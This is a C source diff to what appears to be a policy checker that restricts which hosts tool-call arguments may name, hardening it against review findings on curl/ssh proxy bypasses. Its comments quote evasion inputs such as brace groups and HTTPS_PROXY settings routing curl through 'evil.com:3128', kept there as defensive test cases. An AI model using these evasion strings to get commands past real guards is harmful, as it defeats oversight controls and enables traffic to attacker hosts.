@@ -130,7 +130,7 @@ static int chio_reading_allowed(domain_scan *ds, const char *s, size_t n)
     fc.ds = ds;
     fc.s = s;
     fc.n = n;
-    return chio__leaf_field_hosts(s, n, field_host_allowed, &fc) == 0;
+    return chio__leaf_field_hosts_in(s, n, ds->program, field_host_allowed, &fc) == 0;
 }
 
 /* An argv passed as an array of words: the element after one that ends
@@ -151,9 +151,12 @@ static int option_values_allowed(domain_scan *ds, const chio_json *v)
     if (chio_json_typeof(v) != CHIO_JSON_ARRAY && chio_json_typeof(v) != CHIO_JSON_OBJECT)
         return 1;
     n = chio_json_size(v);
-    program = chio_json_typeof(v) == CHIO_JSON_ARRAY && n > 0 &&
-              (s = chio_json_string(chio_json_at(v, 0), &len)) != NULL &&
-              chio__leaf_host_program(s, len);
+    /* a bundle ("-sx") is read when any leaf of the call names curl or
+     * ssh: ["env", "curl", "-sx", ...], {"command": "curl", "args":
+     * ["-sx", ...]} (review 22 H1) */
+    program = ds->programs > 0 || (chio_json_typeof(v) == CHIO_JSON_ARRAY && n > 0 &&
+                                   (s = chio_json_string(chio_json_at(v, 0), &len)) != NULL &&
+                                   chio__leaf_host_program(s, len));
     for (i = 0; i < n; i++) {
         e = chio_json_at(v, i);
         if (!option_values_allowed(ds, e))
@@ -237,16 +240,84 @@ static int chio_readings_allowed(domain_scan *ds, const char *s, size_t n)
     return ok;
 }
 
-/* Does @s, blanks aside, start with '{' or '[' and end with '}' or ']'? */
+/* Is @s, blanks aside, a JSON object or array, whole, as a strict parser
+ * reads it? Its first and last bytes alone ('{' or '[', '}' or ']') are
+ * also a shell's brace group and tests ("{ curl -x 'evil.com:3128' URL;
+ * }", "[ -d x ] && ... || [ 1 ]"; review 22 H5). A lenient reading is not
+ * enough: JSONC takes "[1] // ; curl ..." as [1]. */
 static int json_text(const char *s, size_t n)
 {
+    chio_json_doc *doc = NULL;
     size_t a = 0, b = n;
 
     while (a < b && (s[a] == ' ' || s[a] == '\t' || s[a] == '\n' || s[a] == '\r'))
         a++;
     while (b > a && (s[b - 1] == ' ' || s[b - 1] == '\t' || s[b - 1] == '\n' || s[b - 1] == '\r'))
         b--;
-    return b - a >= 2 && (s[a] == '{' || s[a] == '[') && (s[b - 1] == '}' || s[b - 1] == ']');
+    if (b - a < 2 || (s[a] != '{' && s[a] != '[') || (s[b - 1] != '}' && s[b - 1] != ']'))
+        return 0;
+    if (chio_json_parse(s + a, b - a, &doc, NULL) != 0)
+        return 0;
+    chio_json_doc_free(doc);
+    return 1;
+}
+
+static int scan_domain_text(void *ctx, chio__key *key, const char *s, size_t n, int is_key);
+
+/* A word in single quotes whose text is JSON ('{"name":"report.pdf",
+ * "size":1}', a body a command sends) is read as JSON held in a string
+ * under @key, as an argument's JSON text is, and blanked in *@copy
+ * (allocated on the first, @n bytes) for the shell reading, whose quote
+ * removal would run its members into one word (review 22 M2). Quotes
+ * are followed as a shell follows them ('\\', "..", $'..'). 1 when each
+ * holds, else 0 with the reason. */
+static int quoted_json_allowed(domain_scan *ds, chio__key *key, const char *s, size_t n,
+                               char **copy)
+{
+    const char *close;
+    size_t i = 0, q;
+    int rc, program;
+
+    *copy = NULL;
+    while (i < n) {
+        if (s[i] == '\\') {
+            i += 2;
+            continue;
+        }
+        if (s[i] == '"' || (s[i] == '$' && i + 1 < n && s[i + 1] == '\'')) {
+            char end = s[i] == '"' ? '"' : '\'';
+            for (i += s[i] == '"' ? 1 : 2; i < n && s[i] != end; i++)
+                if (s[i] == '\\')
+                    i++;
+            i++;
+            continue;
+        }
+        if (s[i] != '\'' || (close = memchr(s + i + 1, '\'', n - i - 1)) == NULL) {
+            i += s[i] == '\'' ? n : 1; /* an unclosed quote: the rest is in it */
+            continue;
+        }
+        q = i;
+        i = (size_t)(close - s) + 1;
+        if (!json_text(s + q + 1, i - q - 2))
+            continue;
+        if (*copy == NULL) {
+            if ((*copy = malloc(n)) == NULL) {
+                snprintf(ds->reason, ds->cap, "out of memory reading '%.*s'",
+                         (int)(n > 120 ? 120 : n), s);
+                return 0;
+            }
+            memcpy(*copy, s, n);
+        }
+        memset(*copy + q, ' ', i - q);
+        program = ds->program;
+        ds->embedded++;
+        rc = scan_domain_text(ds, key, s + q + 1, i - q - 2, 0);
+        ds->embedded--;
+        ds->program = program;
+        if (rc != 0)
+            return 0;
+    }
+    return 1;
 }
 
 /* chio_readings_allowed() of @s and, when it holds a quote, of the words
@@ -254,10 +325,10 @@ static int json_text(const char *s, size_t n)
  * 'evil.com:3128'", "HTTPS_PROXY='evil.com:3128' curl"), and each $'..'
  * decoded (review 20 fixes F3: an option's value in quotes was read with
  * its quotes, and so was no host). */
-static int leaf_readings_allowed(domain_scan *ds, const char *s, size_t n)
+static int leaf_readings_allowed(domain_scan *ds, chio__key *key, const char *s, size_t n)
 {
-    char stack[512], *heap = NULL, *ansi;
-    const char *r;
+    char stack[512], *heap = NULL, *ansi, *copy = NULL;
+    const char *r, *t;
     size_t len;
     int ok;
 
@@ -272,8 +343,14 @@ static int leaf_readings_allowed(domain_scan *ds, const char *s, size_t n)
          memmem(s, n, "\\\n", 2) == NULL && memmem(s, n, "\\\r\n", 3) == NULL) ||
         json_text(s, n))
         return 1;
-    if ((r = chio__shell_reading(s, n, stack, sizeof(stack), &heap, &len)) == NULL) {
+    if (!quoted_json_allowed(ds, key, s, n, &copy)) {
+        free(copy);
+        return 0;
+    }
+    t = copy != NULL ? copy : s;
+    if ((r = chio__shell_reading(t, n, stack, sizeof(stack), &heap, &len)) == NULL) {
         snprintf(ds->reason, ds->cap, "out of memory reading '%.*s'", (int)(n > 120 ? 120 : n), s);
+        free(copy);
         return 0;
     }
     ok = (len == n && memcmp(r, s, n) == 0) || chio_readings_allowed(ds, r, len);
@@ -282,12 +359,14 @@ static int leaf_readings_allowed(domain_scan *ds, const char *s, size_t n)
         if ((ansi = malloc(n + 1)) == NULL) {
             snprintf(ds->reason, ds->cap, "out of memory reading '%.*s'", (int)(n > 120 ? 120 : n),
                      s);
+            free(copy);
             return 0;
         }
-        len = chio__shell_unquote_ansi(s, n, ansi);
+        len = chio__shell_unquote_ansi(t, n, ansi);
         ok = chio_readings_allowed(ds, ansi, len);
         free(ansi);
     }
+    free(copy);
     return ok;
 }
 
@@ -326,7 +405,9 @@ static int scan_domain_text(void *ctx, chio__key *key, const char *s, size_t n, 
          * inside a JSON text is no leaf to it ('{"name":"report.pdf"}'
          * names no host), and the embedded readings above keep their own
          * rules (URL-ish keys, URLs). */
-        if (ds->embedded == 0 && !leaf_readings_allowed(ds, s, n)) {
+        /* review 22 H1: another leaf names curl or ssh */
+        ds->program = ds->programs - chio__leaf_names_host_program(s, n) > 0;
+        if (ds->embedded == 0 && !leaf_readings_allowed(ds, key, s, n)) {
             chio__unquote_secret(ds->k, s, n, ds->c, ds->reason, ds->cap);
             ds->seen = 1; /* denied: keep this reason */
             ds->bad = 1;
@@ -344,6 +425,18 @@ static int scan_domain_scalar(void *ctx, chio__key *key, const char *s, size_t n
     if (!chio__key_names(key, CHIO__KEY_URL))
         return 0;
     return chio__domain_scan(ctx, key, s, n);
+}
+
+/* Counts the leaves (keys too) of the call that name curl, ssh, scp or
+ * sftp (review 22 H1). */
+static int count_programs(void *ctx, chio__key *key, const char *s, size_t n, int is_key)
+{
+    domain_scan *ds = ctx;
+
+    (void)key;
+    (void)is_key;
+    ds->programs += chio__leaf_names_host_program(s, n);
+    return 0;
 }
 
 /* Can a host read from the arguments ever equal the domain_exact value
@@ -433,6 +526,7 @@ int chio__domain_holds(chio_kernel *k, const chio__constraint *c, const chio_jso
         if (c->kind == CHIO__CONSTRAINT_DOMAIN_EXACT && ds.want[n - 1] == '.')
             ds.want[--n] = '\0';
     }
+    chio__each_text(args, 0, count_programs, &ds);
     chio__each_text(args, 0, scan_domain_text, &ds);
     if (!ds.bad)
         chio__each_scalar(args, scan_domain_scalar, &ds);
